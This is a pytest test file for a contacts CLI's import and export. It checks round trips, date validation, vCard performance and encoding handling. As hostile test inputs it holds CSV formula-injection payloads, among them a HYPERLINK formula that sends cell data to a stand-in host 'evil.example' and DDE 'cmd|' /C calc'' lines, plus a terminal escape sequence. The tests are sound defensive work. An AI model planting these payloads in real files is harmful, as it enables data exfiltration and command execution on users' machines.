"""`devhub import` / `devhub export` on hostile and round-tripped files, run for real.

Issue 15 item 1 (a round trip gives back what went out: VIP flags kept, no VIP data
for non-VIPs, nothing merged when one's own export comes back), issue 15 item 2 and
issue 23 item 3 (interaction dates out of range in a backup are reported and
skipped; 10**25 is one clear line), issue 23 items 2, 5 and 6 (CSV cells that a
spreadsheet would run are neutralised; messages quoting a file are sanitised and
cut; a 20 MB folded vCard costs seconds and little memory), issue 16 (--encoding).
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from devhub_tui.storage.store import Store, VipData

from .cli_helpers import assert_clean_error, run_cli

CORPUS = Path(__file__).resolve().parents[1] / "fixtures" / "corpus"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)"]


def _ok(*args: str, env: dict[str, str] | None = None) -> str:
    res = run_cli(*args, env=env)
    assert res.returncode == 0, res.stderr
    assert "Traceback" not in res.stderr
    return res.stdout


def _sign_up(env: dict[str, str] | None = None) -> None:
    res = run_cli("user", "add", "ada", "--password-stdin", stdin="password1\n", env=env)
    assert res.returncode == 0, res.stderr
    res = run_cli("login", "ada", "--password-stdin", stdin="password1\n", env=env)
    assert res.returncode == 0, res.stderr


def _rows(db: Path, sql: str) -> list[tuple[Any, ...]]:
    conn = sqlite3.connect(db)
    try:
        return conn.execute(sql).fetchall()
    finally:
        conn.close()


def _other_store(tmp_path: Path, name: str) -> tuple[dict[str, str], Path]:
    db = tmp_path / f"{name}.db"
    env = dict(os.environ, DEVHUB_DB=str(db))
    _sign_up(env)
    return env, db


@pytest.mark.parametrize(("fmt", "version"), [("vcard", "3.0"), ("vcard", "4.0"),
                                              ("csv", "3.0"), ("json", "3.0")])
def test_round_trip_keeps_vip_flags_and_adds_no_vip_data(
    signed_in_store: Store, db_path: Path, tmp_path: Path, fmt: str, version: str
) -> None:
    store = signed_in_store
    ada = store.add_contact({"name": "Ada Lovelace", "email": "ada@example.com", "vip": True,
                             "location": "München, Bayern, Germany",
                             "notes": "Met at PyCon; talked about looms, cards"})
    store.save_vip(ada, VipData(family="Byron", email="ada.home@example.org",
                                social_links=[{"platform": "x", "url": "https://x.com/ada"}]))
    store.add_contact({"name": "Linus Torvalds", "github": "torvalds", "birthday": "--12-28"})
    store.add_contact({"name": "Grace Hopper", "email": "grace@navy.example"})
    out = tmp_path / f"out.{fmt}"
    _ok("export", "--format", fmt, "--vcard-version", version, "-o", str(out))
    # into another store: the same VIP flags, and VIP data for the VIP only
    env, other = _other_store(tmp_path, "other")
    assert "3 added" in _ok("import", str(out), env=env)
    flags = dict(_rows(other, "SELECT name, vip FROM contacts"))
    assert flags == {"Ada Lovelace": 1, "Linus Torvalds": 0, "Grace Hopper": 0}
    with_vip_data = {r[0] for r in _rows(
        other, "SELECT c.name FROM contacts c JOIN contact_info i ON i.contact_id = c.id")}
    assert with_vip_data == {"Ada Lovelace"}
    (links,) = _rows(other, "SELECT i.social_links FROM contact_info i")[0]
    assert json.loads(links) == [{"platform": "x", "url": "https://x.com/ada"}]
    (location, notes) = _rows(other, "SELECT location, notes FROM contacts WHERE vip = 1")[0]
    assert location == "München, Bayern, Germany"  # commas and semicolons kept
    assert notes == "Met at PyCon; talked about looms, cards"
    # one's own export, imported again: nothing to add and nothing to merge
    report = json.loads(_ok("import", str(out), "--dry-run", "--json"))
    assert (report["added"], report["merged"], report["skipped"]) == (0, 0, 3)
    assert json.loads(_ok("import", str(out), "--json", env=env))["merged"] == 0


def test_csv_export_neutralises_formula_cells_and_the_others_keep_them(
    signed_in_store: Store, tmp_path: Path
) -> None:
    for name in FORMULAS:
        signed_in_store.add_contact({"name": name, "company": "=cmd|' /C calc'!A0",
                                     "phone": "+1 555 0100", "notes": "\tTabbed\nline 2"})
    text = _ok("export", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for col in ("name", "company", "phone", "notes"):
            assert row[col][0] not in "=+-@\t\r", row[col]  # a spreadsheet runs none
            assert row[col].startswith("'"), row[col]
        assert row["email"] == "" and row["id"][0] not in "'="  # other cells as they are
    vcard = _ok("export", "--format", "vcard")
    assert 'FN:=HYPERLINK("http://evil.example/?"&A1\\,"Click")' in vcard
    backup = json.loads(_ok("export", "--format", "json"))
    assert {c["name"] for c in backup["contacts"]} >= {FORMULAS[0], FORMULAS[1], "@SUM(1+1)"}
    # devhub's own import takes the protection off again: the round trip is exact
    out = tmp_path / "out.csv"
    out.write_text(text)
    env, other = _other_store(tmp_path, "other")
    _ok("import", str(out), env=env)
    assert sorted(r[0] for r in _rows(other, "SELECT name FROM contacts")) == sorted(
        r[0] for r in _rows(Path(os.environ["DEVHUB_DB"]), "SELECT name FROM contacts"))


def _backup(interactions: list[dict[str, Any]], **contact: Any) -> dict[str, Any]:
    cid = "c" * 32
    return {
        "format": "devhub-backup", "version": 1, "exported_at": 0, "user": {"username": "ada"},
        "contacts": [{"id": cid, "name": "Ada", "created_at": 1, "updated_at": 1, **contact}],
        "interactions": [
            {"id": f"{n:032x}", "contact_id": cid, "type": "call", "notes": "",
             "created_at": 1, "updated_at": 1, **i}
            for n, i in enumerate(interactions, start=1)
        ],
    }


def test_a_backup_with_dates_out_of_range_reports_and_skips_them(
    signed_in_store: Store, tmp_path: Path, db_path: Path
) -> None:
    day = 86_400_000
    now = int(time.time() * 1000)
    path = tmp_path / "backup.json"
    path.write_text(json.dumps(_backup([
        {"date": now - day}, {"date": now + 3 * day}, {"date": 10**25},
        {"date": -3_000_000_000_000}])))
    out = _ok("import", str(path))
    assert "1 added, 0 merged, 0 skipped (plus 1 interaction)" in out
    assert "interactions[1] (id " in out and "is in the future" in out and "follow-up" in out
    assert "interactions[2]" in out and "is not a date" in out
    assert "interactions[3]" in out and "before 1900-01-01" in out
    assert _rows(db_path, "SELECT count(*) FROM interactions") == [(1,)]
    (last,) = _rows(db_path, "SELECT last_contacted FROM contacts")[0]
    assert last == now - day  # never the future one
    # an out-of-range number elsewhere: one clear line, nothing imported, no crash
    path.write_text(json.dumps(_backup([], created_at=10**25)))
    assert_clean_error(run_cli("import", str(path)), "'created_at' is out of range")
    path.write_text('{"format": "devhub-backup", "version": 1, "contacts": [{"id": "x", '
                    '"name": "A", "created_at": ' + "9" * 5000 + "}]}")
    assert_clean_error(run_cli("import", str(path)), "not valid JSON")


def test_messages_quoting_a_file_are_sanitised_and_cut(signed_in_store: Store,
                                                         tmp_path: Path) -> None:
    hostile = "\x1b]0;pwned\x07\x1b[31m" + "A" * (20 * 2**20)
    path = tmp_path / "hostile.vcf"
    path.write_text("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Eve\r\n" + hostile
                    + "\r\nEND:VCARD\r\n")
    res = run_cli("import", str(path), "--dry-run", timeout=120)
    assert res.returncode == 0, res.stderr
    assert "\x1b" not in res.stdout and "\x07" not in res.stdout
    (line,) = [ln for ln in res.stdout.splitlines() if "line 4: can't read" in ln]
    assert "'?]0;pwned??[31m" + "A" * 65 + "…'" in line  # its first 80 characters
    assert len(line) < 250
    # a file refused whole: one short line on stderr, control characters gone
    path.write_text(hostile + "\n")
    res = run_cli("import", str(path), "--format", "vcard", timeout=120)
    assert_clean_error(res, "is not BEGIN:VCARD: this is not a vCard file")
    assert "\x1b" not in res.stderr and len(res.stderr) < 300


def test_a_20_mb_folded_vcard_costs_seconds_and_little_memory(signed_in_store: Store,
                                                                tmp_path: Path) -> None:
    """Unfolding was quadratic: 20 MB of folded lines took 194 s (issue 23 item 6)."""
    path = tmp_path / "folded.vcf"
    line = b"\r\n " + b"x" * 73
    path.write_bytes(b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Folded\r\nNOTE:start"
                     + line * (20 * 2**20 // len(line)) + b"\r\nEND:VCARD\r\n")
    # the real CLI, in a process that says its own peak memory as it exits
    measured = ("import atexit, resource, runpy, sys\n"
                "atexit.register(lambda: sys.stderr.write('maxrss_kib %d\\n' % "
                "resource.getrusage(resource.RUSAGE_SELF).ru_maxrss))\n"
                "sys.argv = ['devhub', *sys.argv[1:]]\n"
                "runpy.run_module('devhub_tui', run_name='__main__')\n")
    t0 = time.perf_counter()
    res = subprocess.run([sys.executable, "-c", measured, "import", str(path), "--dry-run"],
                         capture_output=True, text=True, timeout=120, env=dict(os.environ))
    seconds = time.perf_counter() - t0
    assert res.returncode == 0, res.stderr
    assert "1 to add" in res.stdout and "NOTE is too long" in res.stdout
    assert seconds < 10
    (kib,) = [int(ln.split()[1]) for ln in res.stderr.splitlines() if ln.startswith("maxrss")]
    assert kib < 300 * 1024


def test_encoding_option(signed_in_store: Store) -> None:
    path = str(CORPUS / "shift_jis_no_bom.csv")
    res = run_cli("import", path)
    assert_clean_error(res, "line 2: can't tell the file's text encoding")
    assert "--encoding" in res.stderr
    assert "2 added" in _ok("import", path, "--encoding", "shift_jis")
    assert_clean_error(run_cli("import", path, "--encoding", "klingon"),
                       "unknown encoding 'klingon'")
